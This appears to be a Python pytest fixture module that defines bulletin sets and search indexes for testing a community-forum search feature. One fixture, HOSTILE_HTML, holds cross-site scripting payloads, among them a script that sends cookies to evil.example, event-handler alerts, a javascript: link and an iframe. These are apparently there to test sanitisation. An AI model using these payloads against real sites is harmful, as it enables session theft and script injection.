"""Shared bulletin sets, search indexes (fixtures) and helpers for the search test modules."""

from __future__ import annotations

import pytest

from cache.model import Bulletin
from cache.search import SearchHit, SearchIndex, SearchResult
from sims.bulletins import bulletin, generate, generated_hits
from sims.community_seed import build_seed

WIFI_DROPPING = 1
FIRMWARE_GUIDE = 2
BILLING = 3
MODEM_SHORT = 4
MODEM_LONG = 5
HOSTILE = 6
CAFE = 7
REMOTE = 8

HOSTILE_HTML = (
    "<p>Reset your voicemail <b>PIN</b> from the router menu.</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src=x onerror="alert(1)">'
    '<a href="javascript:alert(2)" onclick="alert(3)">open the router page</a>'
    "<style>body { display: none }</style><iframe src='https://evil.example'></iframe>"
    "<!-- <script>alert(4)</script> --><svg onload=alert(5)><p>Then call again</p>"
)

HANDFUL = (
    bulletin(
        WIFI_DROPPING,
        "Wi-Fi keeps dropping every few minutes",
        "<p>Change the channel on the 2.4 GHz band; mine was crowded by the neighbours.</p>"
        "<p>Updating the router firmware fixed it for me.</p>",
        tags=("wi-fi", "router"),
    ),
    bulletin(
        FIRMWARE_GUIDE,
        "Router firmware update guide",
        "<ol><li>Open the admin page</li><li>Download the image</li><li>Wait</li></ol>",
        tags=("router",),
    ),
    bulletin(
        BILLING,
        "Billing date moved to the first of the month",
        "<p>The bill now arrives on the 1st. My wifi was dropping that week too, but that"
        " is another story.</p>",
        category="Billing",
    ),
    bulletin(
        MODEM_SHORT,
        "Modem lights blinking orange",
        "<p>Orange means it is still syncing with the exchange; give it ten minutes.</p>",
    ),
    bulletin(
        MODEM_LONG,
        "Modem lights blinking orange all night",
        "<p>Orange means the line is still syncing with the exchange; wait ten minutes.</p>",
    ),
    bulletin(HOSTILE, "Voicemail PIN reset", HOSTILE_HTML, category="Phone"),
    bulletin(
        CAFE,
        "Café hotspot login page does not open",
        "<p>Turn off private DNS, then the login page opens.</p>",
    ),
    bulletin(
        REMOTE,
        "TV remote will not pair",
        "<p>Hold OK and the red button together.</p>",
        category="TV",
        author_name="Dolores Núñez",
    ),
)


# -- a synthetic community of ~300 bulletins (no "wifi"/"drop" words: those are needles) --


NEEDLE = 10_000  # "Wi-Fi dropping" in the title, among 300 others and two body-only mentions
NEEDLES = (
    bulletin(
        NEEDLE,
        "Wi-Fi dropping when the microwave is on",
        "<p>Move the router or switch to the 5 GHz band.</p>",
        tags=("wi-fi",),
    ),
    bulletin(
        NEEDLE + 1,
        "Router keeps rebooting at night",
        "<p>Before this the wifi was dropping for a week; the power adapter was faulty.</p>",
    ),
    bulletin(
        NEEDLE + 2,
        "Mesh extender shows a red light",
        "<p>Dropping back to one node helped. Wi-Fi is fine now.</p>",
    ),
)


SYNTHETIC = (*generate(), *NEEDLES)
SYNTHETIC_IDS = frozenset(b.id for b in SYNTHETIC)


def seeded() -> list[Bulletin]:
    """The community simulator's seeded bulletins, as the origin client would map them."""
    seed = build_seed()
    categories = {c.id: c.name for c in seed.categories}
    return [
        Bulletin(
            id=t.id,
            title=t.title,
            slug=t.slug,
            author=t.author.username,
            author_name=t.author.name or t.author.username,
            category=categories[t.category_id],
            tags=t.tags,
            excerpt=t.excerpt,
            body_html=t.posts[0].cooked,
            created_at=t.created_at,
            updated_at=t.posts[0].updated_at,
            origin_views=t.views,
            like_count=t.like_count,
        )
        for t in seed.topics
    ]


SEEDED = tuple(seeded())
SEEDED_IDS = frozenset(b.id for b in SEEDED)


@pytest.fixture(scope="module")
def small() -> SearchIndex:
    return SearchIndex.build(HANDFUL, {})


@pytest.fixture(scope="module")
def community() -> SearchIndex:
    return SearchIndex.build(SYNTHETIC, generated_hits(SYNTHETIC))


@pytest.fixture(scope="module")
def seeded_index() -> SearchIndex:
    return SearchIndex.build(SEEDED, {b.id: b.origin_views for b in SEEDED})


def ids(result: SearchResult) -> list[int]:
    return [hit.id for hit in result.hits]


def texts(hit: SearchHit) -> str:
    return "".join(text for text, _ in hit.snippet)
